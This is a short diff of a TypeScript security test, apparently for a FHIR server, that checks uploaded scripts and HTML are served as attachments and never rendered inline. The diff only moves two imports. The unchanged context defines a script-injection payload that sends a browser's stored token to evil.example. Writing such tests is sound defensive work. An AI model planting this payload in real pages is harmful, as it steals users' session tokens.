@@ -4,8 +4,8 @@
 // as a download (Content-Disposition: attachment), typed as stored, never sniffed, and
 // sandboxed should it be opened anyway. Passive types (PDF, images, plain text) still show inline.
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { backends, createAccount, startTestServer, type TestAccount, type TestServer } from '../fhir/test-server';
-import { fhirAs, type RawResponse } from './attacker';
+import { backends, createAccount, startTestServer, type TestAccount, type TestServer } from '../test/test-server';
+import { fhirAs, type RawResponse } from '../test/attacker';
 
 const SCRIPT = '<script>fetch("https://evil.example/?t="+localStorage.getItem("token"))</script>';
 const ACTIVE: [contentType: string, body: string][] = [
